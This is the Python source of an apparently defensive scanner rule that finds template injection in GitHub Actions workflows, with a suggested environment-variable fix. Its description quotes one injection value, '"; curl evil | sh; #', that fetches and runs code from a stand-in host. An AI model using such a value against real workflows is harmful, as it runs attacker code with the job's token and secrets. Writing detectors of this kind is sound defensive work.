"""GHA-TEMPLATE-INJECTION: attacker-controlled `${{ … }}` expanded straight into a script."""

from __future__ import annotations

import re
from collections.abc import Iterator

from secloop.core.enums import Confidence, Severity, Stage
from secloop.core.model import Finding
from secloop.core.rules import Rule
from secloop.pipeline.audits.interface import AuditBase
from secloop.pipeline.expressions import EMPTY_SCOPE, Scope, references, taints
from secloop.pipeline.scope import scope_of
from secloop.pipeline.workflow import Job, Scalar, Step, Workflow, lookup

__all__ = ["RULE", "TemplateInjection", "classify", "references"]

RULE = Rule(
    id="GHA-TEMPLATE-INJECTION",
    title="Attacker-controlled expression expanded inside a script",
    stage=Stage.PIPELINE,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    description=(
        "`${{ … }}` is substituted into the script text before the shell (or github-script) runs it. "
        "An issue title, a pull request body, a branch name or a commit message is chosen by whoever "
        "opens it, so a value such as `\"; curl evil | sh; #` becomes code running with the job's "
        "token and secrets."
    ),
    fix=(
        "Pass the value through an environment variable and quote it in the script: "
        '`env: TITLE: ${{ github.event.issue.title }}` then `run: echo "$TITLE"`.'
    ),
    cwe=(78, 94),
    cicd_sec=(4,),
)


# The shell re-parses what these receive, so even a quoted `"$TITLE"` becomes code there.
REEVALUATED = re.compile(r"\beval\b|\b(?:ba|z|da)?sh\s+-c\b|\bsource\s+<\(")
_SHELL_VAR = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")


def classify(expression: str, scope: Scope = EMPTY_SCOPE) -> list[tuple[str, Confidence]]:
    """Attacker-controlled contexts the expression's value may carry, with how sure we are."""
    return [(t.ref, t.confidence) for t in taints(expression, scope)]


class TemplateInjection(AuditBase):
    rule = RULE

    def audit_step(self, workflow: Workflow, job: Job, step: Step) -> Iterator[Finding]:
        if step.run is not None:
            yield from self._scan(workflow, job, step, step.run, "run")
            if REEVALUATED.search(step.run.raw):
                yield from self._reevaluated(workflow, job, step, step.run)
        if step.uses_action("actions/github-script"):
            script = lookup(step.with_, "script")
            if script is not None and script.value is not None:
                yield from self._scan(workflow, job, step, script.value, "github-script")

    def _scan(
        self, workflow: Workflow, job: Job, step: Step, script: Scalar, where: str
    ) -> Iterator[Finding]:
        seen: dict[str, int] = {}
        scope: Scope | None = None
        for expression in script.expressions():
            if scope is None:
                scope = scope_of(workflow, job, step)
            for taint in taints(expression.text, scope):
                ref = taint.ref
                occurrence = seen.get(ref, 0)
                seen[ref] = occurrence + 1
                key = (where, ref) if occurrence == 0 else (where, ref, str(occurrence))
                through = "".join(f"{hop}, which holds " for hop in taint.via)
                yield self.finding(
                    workflow,
                    f"`${{{{ {expression.text} }}}}` expands {through}{ref}, which an outsider controls, "
                    f"inside the {where} script of step {step.key!r}",
                    expression.location,
                    job=job,
                    step=step,
                    key=key,
                    confidence=taint.confidence,
                    properties=(
                        ("expression", ref),
                        *((("via", " > ".join(taint.via)),) if taint.via else ()),
                    ),
                )

    def _reevaluated(self, workflow: Workflow, job: Job, step: Step, script: Scalar) -> Iterator[Finding]:
        """`eval "$TITLE"` and `bash -c "$TITLE"`: an env variable holding outsider text run as code."""
        scope = scope_of(workflow, job, step)
        offset = 0
        for line in script.raw.splitlines(keepends=True):
            start, offset = offset, offset + len(line)
            command = REEVALUATED.search(line)
            if command is None:
                continue
            for match in _SHELL_VAR.finditer(line, command.end()):
                found = taints(f"env.{match.group(1)}", scope)
                if not found:
                    continue
                taint = found[0]
                yield self.finding(
                    workflow,
                    f"`{command.group(0)}` re-reads ${match.group(1)}, which holds {taint.ref}, which an "
                    f"outsider controls, as code in step {step.key!r}",
                    script.span(start + match.start(), start + match.end()),
                    job=job,
                    step=step,
                    key=("reevaluated", match.group(1)),
                    confidence=Confidence.MEDIUM,
                    properties=(("expression", taint.ref), ("via", f"${match.group(1)}")),
                )
